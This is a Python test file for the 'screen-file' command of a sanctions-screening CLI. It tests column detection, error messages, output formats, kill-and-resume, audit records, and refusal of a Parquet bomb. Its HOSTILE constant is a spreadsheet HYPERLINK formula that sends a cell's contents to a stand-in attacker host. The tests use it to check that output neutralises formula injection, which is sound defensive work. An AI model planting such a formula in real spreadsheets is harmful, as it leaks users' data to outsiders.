"""`sanctrace screen-file` as a user runs it: real processes on the real bundled lists."""

from __future__ import annotations

import csv
import io
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

from homes import copy_home, sanctrace
from typer.testing import CliRunner

from sanctrace.cli.app import app

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_screen_a_csv_to_stdout(bundled_home: Path, tmp_path: Path) -> None:
    source = _write(
        tmp_path / "customers.csv",
        "Customer ID,Customer Name,Country\n"
        "C-1,IEMZ Kupol,RU\n"
        "C-2,Margaret Thistlewood,GB\n"
        "C-3,,\n"
        f'C-4,"{HOSTILE.replace(chr(34), chr(34) * 2)}",\n'
        "C-5,Kim Jong Un,KP\n",
    )
    proc = sanctrace(bundled_home, "screen-file", str(source), "--workers", "1")
    rows = _rows(proc.stdout)
    by_key: dict[str, list[dict[str, str]]] = {}
    for row in rows:
        by_key.setdefault(row["input_key"], []).append(row)
    assert list(by_key) == ["C-1", "C-2", "C-3", "C-4", "C-5"], "input order, every row"
    [kupol] = [r for r in by_key["C-1"] if "us_ofac_sdn:46431" in r["record_ids"].split("; ")]
    assert kupol["party_id"].startswith("P-") and "au_dfat_sanctions" in kupol["datasets"]
    assert [r["id"] for r in by_key["C-2"]] == [""]
    assert [r["skipped"] for r in by_key["C-3"]] == ["empty name"]
    assert [r["input_name"] for r in by_key["C-4"]] == ["'" + HOSTILE]
    assert by_key["C-5"][0]["id"] == "us_ofac_sdn:20157"
    assert by_key["C-1"][0]["input_row"] == "2" and by_key["C-5"][0]["input_row"] == "6"
    err = proc.stderr
    assert (
        "Columns: name='Customer Name' (detected), key='Customer ID' (detected), "
        "country='Country' (detected); not found: schema, birth_date, identifier" in err
    )
    assert "Read 5 rows from " in err and "4 screened, 2 matched, 1 skipped (empty name: 1)" in err
    assert "Wrote 5 rows to standard output" in err and "rows/s" in err  # a party, one row
    assert "Data: " in err and "us_ofac_sdn 2024-05-03" in err
    # from standard input, only the SDN, the best match only
    piped = sanctrace(
        bundled_home,
        "screen-file",
        "-",
        "--dataset",
        "us_ofac_sdn",
        "--best-only",
        "--workers",
        "1",
        stdin=source.read_text(),
    )
    best = _rows(piped.stdout)
    assert [r["input_key"] for r in best] == ["C-1", "C-2", "C-3", "C-4", "C-5"]
    assert best[0]["id"] == "us_ofac_sdn:46431"
    assert {r["lists"] for r in best} == {"us_ofac_sdn@2024-05-03"}


def test_user_errors_are_one_line(bundled_home: Path, tmp_path: Path) -> None:
    source = _write(tmp_path / "in.csv", "ref,Nom\n1,IEMZ Kupol\n")
    for args, words in (
        ((), "has no name column that sanctrace recognises; its columns are: 'ref', 'Nom'"),
        (
            ("--name-column", "Name"),
            "has no column 'Name' (--name-column); its columns are: 'ref', 'Nom'",
        ),
        (("--name-column", "Nom", "--threshold", "2"), "--threshold must be between 0 and 1"),
        (("--name-column", "Nom", "--schema", "Alien"), "--schema: schema 'Alien' is not one of"),
        (("--name-column", "Nom", "--dataset", "nope"), "dataset(s) not loaded: nope"),
        (("--name-column", "Nom", "--resume"), "--resume needs --output FILE"),
    ):
        proc = sanctrace(bundled_home, "screen-file", str(source), *args, check=False)
        assert proc.returncode != 0, args
        last = proc.stderr.splitlines()[-1]
        assert last.startswith("error: ") and words in last, proc.stderr
        assert "Traceback" not in proc.stderr
    missing = sanctrace(bundled_home, "screen-file", str(tmp_path / "nope.csv"), check=False)
    assert missing.returncode == 4 and "nope.csv: file not found" in missing.stderr


def test_xlsx_output_existing_output_and_max_errors(bundled_home: Path, tmp_path: Path) -> None:
    from python_calamine import CalamineWorkbook

    source = _write(
        tmp_path / "in.csv",
        f'name,country\nIEMZ Kupol,RU\n"{HOSTILE.replace(chr(34), chr(34) * 2)}",\n'
        "Tornado Cash,Narnia\nKim Jong Un,Oz\nBank Melli Iran,IR\n",
    )
    out = tmp_path / "results.xlsx"
    proc = sanctrace(bundled_home, "screen-file", str(source), "-o", str(out), "--workers", "1")
    assert f"2 errors (see {tmp_path / 'results.errors.csv'})" in proc.stderr
    sheet = CalamineWorkbook.from_path(str(out)).get_sheet_by_index(0).to_python()
    header, *rows = sheet
    assert header[:4] == ["input_key", "input_row", "input_name", "id"]
    names = [r[2] for r in rows]
    assert "'" + HOSTILE in names and HOSTILE not in names
    records = header.index("record_ids")
    assert any("us_ofac_sdn:46431" in r[records].split("; ") for r in rows)
    errors = _rows((tmp_path / "results.errors.csv").read_text())
    assert [(e["input_row"], e["reason"][:25]) for e in errors] == [
        ("4", "country 'Narnia' is not a"),
        ("5", "country 'Oz' is not a cou"),
    ]
    before = out.read_bytes()
    again = sanctrace(bundled_home, "screen-file", str(source), "-o", str(out), check=False)
    assert again.returncode != 0 and "already exists: add --force" in again.stderr
    assert out.read_bytes() == before
    stop = tmp_path / "stop.csv"
    stopped = sanctrace(
        bundled_home,
        "screen-file",
        str(source),
        "-o",
        str(stop),
        "--max-errors",
        "1",
        "--chunk-size",
        "1",
        "--workers",
        "1",
        check=False,
    )
    assert stopped.returncode != 0
    assert "stopped after 2 input errors, more than --max-errors 1" in stopped.stderr
    assert not stop.exists() and len(_rows((tmp_path / "stop.errors.csv").read_text())) == 2


def test_cli_runner_parquet_round_trip(bundled_home: Path, tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    source = _write(tmp_path / "in.tsv", "id\tname\tdob\n7\tKim Jong Un\t1984\n8\tNobody Atall\t\n")
    out = tmp_path / "out.parquet"
    result = CliRunner().invoke(
        app,
        [
            "--db",
            str(bundled_home / "sanctrace.db"),
            "screen-file",
            str(source),
            "--output",
            str(out),
            "--schema",
            "Person",
            "--workers",
            "1",
        ],
    )
    assert result.exit_code == 0, result.output
    table = pq.read_table(out).to_pylist()
    assert [(r["input_key"], r["input_row"]) for r in table][:1] == [("7", 2)]
    assert table[0]["id"] == "us_ofac_sdn:20157" and table[0]["match"] is True
    assert table[0]["explanation"].endswith("birth_date +0.05"), "the birth date agrees"
    assert table[-1]["input_key"] == "8" and table[-1]["id"] == "" and table[-1]["score"] is None


LISTED = ["IEMZ Kupol", "Bank Melli Iran", "Kim Jong Un", "Tornado Cash", "Алмаз-Антей"]
FIRST = ["Anna", "Boris", "Chen", "David", "Elena", "Farid", "Grace", "Hiro", "Ivan", "Julia"]
LAST = ["Smith", "Ivanov", "Wang", "Garcia", "Khan", "Muller", "Rossi", "Tanaka", "Novak", "Lee"]


def test_kill_9_halfway_then_resume_gives_the_uninterrupted_output(
    bundled_home: Path, tmp_path: Path
) -> None:
    """A real run of 5,000 rows killed with SIGKILL after its first chunks, then resumed (in a
    copy of the bundled home: the session's is shared, and this run dies holding its store)."""
    bundled_home = copy_home(bundled_home, tmp_path / "home")
    source = tmp_path / "big.csv"
    with source.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["record_id", "name"])
        for i in range(5000):
            name = LISTED[i % 5] if i % 10 == 0 else f"{FIRST[i % 10]} {LAST[(i // 10) % 10]}"
            writer.writerow([f"R{i:05d}", name])
    options = ["--chunk-size", "100", "--workers", "2"]
    reference = tmp_path / "reference.csv"
    sanctrace(bundled_home, "screen-file", str(source), "-o", str(reference), *options)

    out = tmp_path / "out.csv"
    work = tmp_path / "out.csv.partial"
    env = {**os.environ, "SANCTRACE_HOME": str(bundled_home)}
    proc = subprocess.Popen(
        [sys.executable, "-m", "sanctrace", "screen-file", str(source), "-o", str(out), *options],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,  # its own process group: the kill takes the workers too
    )
    deadline = time.monotonic() + 60
    while len(list(work.glob("chunk-*.jsonl")) if work.exists() else []) < 3:
        assert proc.poll() is None, "the run finished before it could be killed"
        assert time.monotonic() < deadline
        time.sleep(0.005)
    os.killpg(proc.pid, signal.SIGKILL)
    proc.wait()
    done = len(list(work.glob("chunk-*.jsonl")))
    assert 3 <= done < 50, "killed halfway"
    assert not out.exists()

    refused = sanctrace(
        bundled_home, "screen-file", str(source), "-o", str(out), *options, check=False
    )
    assert refused.returncode != 0 and "add --resume to continue it" in refused.stderr
    resumed = sanctrace(
        bundled_home, "screen-file", str(source), "-o", str(out), *options, "--resume"
    )
    assert f"Resuming: {done * 100:,} rows were already screened" in resumed.stderr
    assert "Read 5,000 rows" in resumed.stderr
    assert out.read_bytes() == reference.read_bytes()
    assert not work.exists()
    rows = _rows(out.read_text(encoding="utf-8"))
    without_match = [r["input_key"] for r in rows if not r["id"]]
    assert len(without_match) == len(set(without_match))
    assert {r["input_key"] for r in rows} == {f"R{i:05d}" for i in range(5000)}
    assert next(r for r in rows if r["input_key"] == "R00000")["id"] != ""


def test_every_chunk_is_in_the_audit_trail(bundled_home: Path, tmp_path: Path) -> None:
    from sanctrace import audit
    from sanctrace.store import open_store

    home = copy_home(bundled_home, tmp_path / "home")
    store = open_store(str(home / "sanctrace.db"))
    last, _ = audit.head(store)
    names = ["IEMZ Kupol", "Margaret Thistlewood", "Kim Jong Un"] * 4
    source = _write(tmp_path / "audited.csv", "name\n" + "\n".join(names) + "\n")
    out = tmp_path / "audited-out.csv"
    run = sanctrace(home, "screen-file", str(source), "-o", str(out), "--chunk-size", "5")
    records = [r for r in audit.records(store) if r.seq > last]
    # 12 rows in chunks of 5
    assert [r.kind for r in records] == ["batch"] * 3, (last, audit.head(store), run.stderr)
    screened = [row for r in records for row in r.record["request"]["rows"]]
    assert [row[2] for row in screened] == names
    matched = {tuple(m[:2]) for r in records for m in r.record["results"]}
    assert (2, "us_ofac_sdn:46431") in matched  # IEMZ Kupol, on line 2
    assert not any(m[0] == 3 for r in records for m in r.record["results"])  # Margaret Thistlewood
    assert audit.verify(store).ok


def test_the_parquet_bomb_is_refused_in_one_line(bundled_home: Path, tmp_path: Path) -> None:
    """The 532-byte Parquet bomb (issue 14): exit 2, one line naming the cell, the limit and
    the option, no traceback, no output and no work folder."""
    from bombs import parquet_bomb

    bomb = parquet_bomb(tmp_path / "bomb.parquet")
    output = tmp_path / "out.csv"
    proc = sanctrace(bundled_home, "screen-file", str(bomb), "-o", str(output), check=False)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    assert proc.stderr.strip().splitlines()[-1:] == [
        f"error: {bomb} record 1, column 'name': a cell of 1,048,576 bytes is over the limit of "
        "1,000,000 bytes per cell (--max-cell-bytes raises it); the file is refused"
    ]
    assert not output.exists() and not (tmp_path / "out.csv.partial").exists()
    small = _write(tmp_path / "rows.csv", "name\nA\nB\nC\n")
    proc = sanctrace(bundled_home, "screen-file", str(small), "--max-rows", "2", check=False)
    assert proc.returncode == 2 and "over the limit of 2 rows (--max-rows raises it)" in proc.stderr
